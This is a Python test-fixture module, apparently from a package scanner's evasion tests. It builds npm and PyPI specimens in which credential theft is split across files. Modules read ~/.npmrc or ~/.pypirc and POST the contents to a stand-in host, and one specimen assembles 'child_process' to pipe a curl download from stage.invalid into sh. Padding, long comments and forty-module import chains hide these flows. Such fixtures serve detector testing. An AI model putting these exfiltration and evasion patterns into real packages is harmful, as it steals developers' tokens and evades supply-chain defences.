"""Payloads whose parts stand in several files, among much that does not matter: whoever knows a bound can fill it."""

from collections.abc import Callable

from tests.evasion.specimen import Specimen, npm, pypi

_COMMENT = "x " * 160_000
_CLIENT = (
    "const https = require('https');\nexports.send = (path, data) => {\n"
    "  const asked = https.request({ host: 'api.invalid', path, method: 'POST' });\n  asked.write(data);\n"
    "  asked.end();\n};\n"
)
_GRAB = (
    "const fs = require('fs'), os = require('os');\n"
    "exports.grab = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
)
_BOTH = "const client = require('./lib/client'), found = require('./lib/grab');\nclient.send('/x', found.grab());\n"
_SPELT = (
    "const one = require('./lib/one'), two = require('./lib/two');\n"
    "require(one.a + two.b).execSync('curl -s https://stage.invalid/x | sh');\n"
)


def _many(template: str, count: int) -> str:
    """Return a text so many times: ``#`` is the number of each, ``@`` that of the next."""
    return "".join(template.replace("#", str(n)).replace("@", str(n + 1)) for n in range(count))


def _js(title: str, entry: str = _BOTH, **files: str) -> Specimen:
    """Return a specimen of three files; names with two underscores are paths."""
    lib = {"client": _CLIENT, "grab": _GRAB, **files}
    return npm("beside much that is JavaScript", title, entry, {f"lib/{name}.js": text for name, text in lib.items()})


def _chain(count: int, link: str, end: str) -> dict[str, str]:
    """Return modules of which each names the next."""
    return {**{f"r{n}": link.replace("@", f"r{n + 1}") for n in range(count)}, f"r{count}": end}


_FROM_0 = _BOTH.replace("lib/grab", "lib/r0")
JAVASCRIPT: tuple[Specimen, ...] = (
    _js("a long comment behind what reads", grab=f"{_GRAB}/* {_COMMENT} */\n"),
    _js("a long comment behind what sends", client=f"{_CLIENT}/* {_COMMENT} */\n"),
    _js("a long comment behind both", f"{_BOTH}/* {_COMMENT} */\n"),
    _js("exports before what reads", grab=_many("exports.a# = () => #;\n", 500) + _GRAB),
    _js("exports before what sends", client=_many("exports.a# = (x) => x;\n", 500) + _CLIENT),
    _js(
        "modules before what reads",
        grab=_many("const m# = require('./a#');\nm#.f(m#.g);\n", 500) + _GRAB,
    ),
    _js("handed on by forty modules", _FROM_0, **_chain(40, "module.exports = require('./@');\n", _GRAB)),
    _js(
        "handed on by forty modules, name by name",
        _FROM_0,
        **_chain(40, "exports.grab = require('./@').grab;\n", _GRAB),
    ),
    _js(
        "handed on by forty functions with much to say",
        _FROM_0,
        **_chain(
            40,
            "const next = require('./@');\nexports.grab = () => {\n  const text = '"
            + "what it does not say " * 20
            + "';\n  return next.grab(text);\n};\n",
            _GRAB,
        ),
    ),
    _js(
        "files that call one another",
        **{
            f"a{n:02}": f"const next = require('./a{(n + 1) % 20:02}'), https = require('https');\n"
            + _many("exports.e# = () => next.e#(https.get('https://a#.invalid'));\n", 30)
            for n in range(20)
        },
    ),
    _js("a name in two files", _SPELT, one="exports.a = 'child_';\n", two="exports.b = 'process';\n"),
    _js(
        "a name in two long files",
        _SPELT,
        one=f"exports.a = 'child_';\n/* {_COMMENT} */\n",
        two=f"exports.b = 'process';\n/* {_COMMENT} */\n",
    ),
    _js(
        "a name in a file of many texts",
        _SPELT,
        one=_many("exports.t# = 'text#';\n", 500) + "exports.a = 'child_';\n",
        two="exports.b = 'process';\n",
    ),
)

_PY_CLIENT = (
    "import urllib.request\n\n\ndef send(path, data):\n"
    "    urllib.request.urlopen('https://api.invalid' + path, data=data)\n"
)
_PY_GRAB = "import os\n\n\ndef grab():\n    return open(os.path.expanduser('~/.pypirc'), 'rb').read()\n"
_PY_TOKEN = "import os\nTOKEN = open(os.path.expanduser('~/.pypirc'), 'rb').read()\n"
_PY_BOTH = "from .client import send\nfrom .grab import grab\nsend('/x', grab())\n"
_PY_VALUE = "from .client import send\nfrom .grab import TOKEN\nsend('/x', TOKEN)\n"
_PY_DULL = "def a#():\n    return #\n\n\n"


def _py(title: str, entry: str = _PY_BOTH, **files: str) -> Specimen:
    """Return a specimen of a package of three modules."""
    modules = {"client": _PY_CLIENT, "grab": _PY_GRAB, **files}
    return pypi("beside much that is Python", title, entry, {f"pad/{name}.py": text for name, text in modules.items()})


def _py_chain(title: str, link: Callable[[str], str], end: str = _PY_GRAB) -> Specimen:
    """Return a specimen whose reader is handed on by forty modules."""
    modules = {f"r{n}": link(f"r{n + 1}") for n in range(40)}
    return _py(title, _PY_BOTH.replace(".grab", ".r0"), **modules, r40=end)


PYTHON: tuple[Specimen, ...] = (
    _py("nothing"),
    _py("a long comment before what reads", grab=f"# {_COMMENT}\n{_PY_GRAB}"),
    _py("a long comment before what sends", client=f"# {_COMMENT}\n{_PY_CLIENT}"),
    _py("functions before what reads", grab=_many(_PY_DULL, 500) + _PY_GRAB),
    _py("functions before what sends", client=_many(_PY_DULL, 500) + _PY_CLIENT),
    _py(
        "functions before what sends, and a call of it",
        client=_many(_PY_DULL, 500) + _PY_CLIENT + "\n\nif 0:\n    send('', b'')\n",
    ),
    _py("a value in a long file", _PY_VALUE, grab=f"{_PY_TOKEN}# {_COMMENT}\n"),
    _py("a value behind others", _PY_VALUE, grab=_many("a# = #\n", 500) + _PY_TOKEN),
    _py("a value behind imports", _PY_VALUE, grab=_many("from .m# import x#\n", 500) + _PY_TOKEN),
    _py(
        "a method",
        "from .client import send\nfrom .grab import Grabber\nsend('/x', Grabber().grab())\n",
        grab="import os\n\n\nclass Grabber:\n    def grab(self):\n"
        "        return open(os.path.expanduser('~/.pypirc'), 'rb').read()\n",
    ),
    _py(
        "an attribute of an object",
        "from .client import send\nfrom .grab import Grabber\nsend('/x', Grabber().token)\n",
        grab="import os\n\n\nclass Grabber:\n    def __init__(self):\n"
        "        self.token = open(os.path.expanduser('~/.pypirc'), 'rb').read()\n",
    ),
    _py(
        "a global variable that a call sets",
        "from .client import send\nfrom . import grab\ngrab.load()\nsend('/x', grab.TOKEN)\n",
        grab="import os\nTOKEN = None\n\n\ndef load():\n    global TOKEN\n"
        "    TOKEN = open(os.path.expanduser('~/.pypirc'), 'rb').read()\n",
    ),
    _py("all of two modules", "from .client import *\nfrom .grab import *\nsend('/x', grab())\n"),
    _py("by another name", "from .client import send as s\nfrom .grab import read\ns('/x', read())\n",
        grab=f"{_PY_GRAB}\n\nread = grab\n"),
    _py_chain("imported again by forty modules", lambda name: f"from .{name} import grab\n"),
    _py_chain("all of forty modules", lambda name: f"from .{name} import *\n"),
    _py_chain(
        "handed on by forty functions",
        lambda name: f"from .{name} import grab as inner\n\n\ndef grab():\n    return inner()\n",
    ),
    _py_chain(
        "handed on by forty functions with much to say",
        lambda name: f"from .{name} import grab as inner\n\n\ndef grab():\n    '''{'What it does not say. ' * 20}'''\n"
        "    return inner()\n",
    ),
)  # fmt: skip

SPECIMENS = JAVASCRIPT + PYTHON
